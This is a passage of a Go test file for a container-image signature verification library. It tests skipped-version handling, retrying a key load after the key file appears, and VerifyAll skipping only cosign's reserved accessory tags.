	p, rep, err = verify.Fetch(ctx, repo+":1.4.0", pol, f.o, verify.Options{AllowSkipped: true})
	if err != nil || p == nil {
		t.Fatalf("Fetch with AllowSkipped: %v", err)
	}
	notVerified(t, rep)

	sum, err := f.verifier(t, pol, verify.Options{}).VerifyAll(ctx, repo, verify.AllOptions{})
	if err != nil || sum.Versions != 1 || sum.Verified != 0 || sum.Failed != 1 || sum.Skipped != 1 || !sum.Outcomes[0].Skipped {
		t.Fatalf("VerifyAll: %v %+v", err, sum)
	}
}

// A key that cannot be loaded yet (a file not written yet, a KMS that is
// down) is loaded again by the next verification on the same Verifier.
func TestKeyLoadFailureIsNotCached(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, newKeys(t))
	repo := f.host + "/wf/release"
	f.release(t, repo+":1.4.0", recipe{})
	later := filepath.Join(t.TempDir(), "later.pub")
	v := f.verifier(t, trust.KeyPolicy(later, repo, trust.KeyPolicyOptions{}), verify.Options{})
	if _, _, err := v.Verify(ctx, repo+":1.4.0"); !errors.Is(err, accessory.ErrKey) {
		t.Fatalf("missing key file: %v", err)
	}
	pub, err := os.ReadFile(f.pub)
	must(t, err)
	must(t, os.WriteFile(later, pub, 0o644))
	if _, rep, err := v.Verify(ctx, repo+":1.4.0"); err != nil || !rep.Verified {
		t.Fatalf("after the key file appeared: %v", err)
	}
}

// VerifyAll leaves out exactly the tags the registry reserves for cosign's
// accessories (immutability.IsAccessoryTag): a version tagged like a short
// digest is a version, and is verified.
func TestVerifyAllSkipsOnlyReservedTags(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, newKeys(t))
	repo := f.host + "/wf/release"
	subj := f.release(t, repo+":1.4.0", recipe{})
	f.release(t, repo+":sha256-12ab", recipe{})
	for _, tag := range []string{"1.4.0", "sha256-12ab"} {
		if immutability.IsAccessoryTag(tag) {
			t.Fatalf("%s is reserved", tag)
		}
	}
	if !immutability.IsAccessoryTag("sha256-" + subj.Digest.Encoded() + ".sig") {
		t.Fatal("the signature tag is not reserved")
	}
	var seen []string // Progress's tags, in order
	progress := func(done, total int, o verify.Outcome) {
		seen = append(seen, o.Tag)
		if done != len(seen) || total != 2 || !o.Verified {
			t.Errorf("Progress(%d, %d, %+v) after %d calls", done, total, o, len(seen)-1)
		}
	}
	sum, err := f.verifier(t, trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{}), verify.Options{}).VerifyAll(ctx, repo, verify.AllOptions{Concurrency: 2, Progress: progress})
	if err != nil || sum.Versions != 2 || sum.Verified != 2 {
		t.Fatalf("VerifyAll: %v %+v", err, sum)
	}
	slices.Sort(seen)
	if !slices.Equal(seen, []string{"1.4.0", "sha256-12ab"}) {
		t.Fatalf("Progress saw %v, each version once", seen)
	}
}
